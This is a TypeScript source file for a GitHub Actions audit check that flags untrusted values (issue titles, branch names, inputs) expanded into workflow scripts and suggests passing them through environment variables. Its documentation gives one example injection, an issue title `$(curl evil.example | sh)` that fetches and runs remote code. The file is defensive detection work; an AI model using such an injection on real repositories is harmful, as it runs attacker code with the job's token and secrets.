import { codeTextsOf } from "./pipelines/code-texts.ts";
import { exposureOf } from "./pipelines/exposure.ts";
import { originsOf } from "./pipelines/origins.ts";
import { placesOfPart } from "./pipelines/places.ts";
import { shellOf, whereOf } from "./pipelines/steps.ts";
import { workflowCheck } from "./pipelines/workflow-check.ts";

/** Values that others write, put into scripts as text before a shell reads them ("Security hardening", script injections). */
export const workflowTemplateInjection = workflowCheck({
  name: "workflow-template-injection",
  title: "Untrusted values expanded into workflow scripts",
  severity: "critical",
  controls: [2],
  documentation: {
    what: "Checks `run` scripts and inputs of actions that are run as code (`script` of actions/github-script and others) for `${{ }}` expressions whose value somebody else writes: titles, bodies, branch names, commit messages, inputs that are text, and what `env`, `matrix`, outputs of steps and jobs carry on of them. Not reported: values that GitHub makes (numbers, commit ids, states), inputs of type boolean, number, choice or environment, values of a matrix that stand in the file, and what is only compared. Severity: critical where anyone can set the value in a run with the repository's token or secrets, high where anyone can in a run without, medium where people with write access or callers can, low where what runs sets it.",
    why: "The runner replaces the expression before the shell starts: an issue titled `$(curl evil.example | sh)` is run as a command, with the job's token and secrets.",
    fix: 'Hand the value over as a variable and quote it: `env: TITLE: ${{ github.event.issue.title }}` and `"$TITLE"` in the script; in github-script read it from the environment. `bulkhead build audit --fix` does that for bash and pwsh.',
    references: [
      "https://docs.github.com/en/actions/reference/security/secure-use#use-an-intermediate-environment-variable",
      "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ],
  },
  needs: "partial",
  *detect(file) {
    for (const { text, what, step, job } of codeTextsOf(file)) {
      const within = { file, step, ...(job === undefined ? {} : { job }) };
      for (const expression of text.expressions) {
        const { tree, place, source } = expression;
        if (tree === undefined) continue;
        for (const origin of originsOf(tree, within)) {
          const exposure = exposureOf(origin, file, job);
          if (exposure === undefined) continue;
          const { severity, confidence, reason } = exposure;
          const trigger = file.kind === "workflow" ? file.on.find(({ event }) => event === exposure.event) : undefined;
          yield {
            subject: `${whereOf(within)}: ${origin.name} in ${what}`,
            title: `${origin.name} is expanded into ${what}${job === undefined ? "" : ` of job ${job.id}`}: ${reason}`,
            severity,
            confidence,
            place,
            related: [
              ...placesOfPart(text, expression, origin.at),
              ...(origin.through === undefined ? [] : [origin.through]),
              ...(trigger === undefined ? [] : [trigger.place]),
            ],
            fix: fixFor(source, step.kind === "run" ? shellOf(step, within).program : undefined),
            evidence: { expression: source, origin: origin.name, capability: origin.capability },
          };
        }
      }
    }
  },
});

function fixFor(source: string, shell: string | undefined): string {
  const use =
    shell === undefined
      ? "read it from the environment in the code"
      : shell === "pwsh" || shell === "powershell"
        ? "use $env:NAME in the script"
        : 'use "$NAME" in the script';
  return `set env: NAME: \${{ ${source} }} on the step and ${use}`;
}
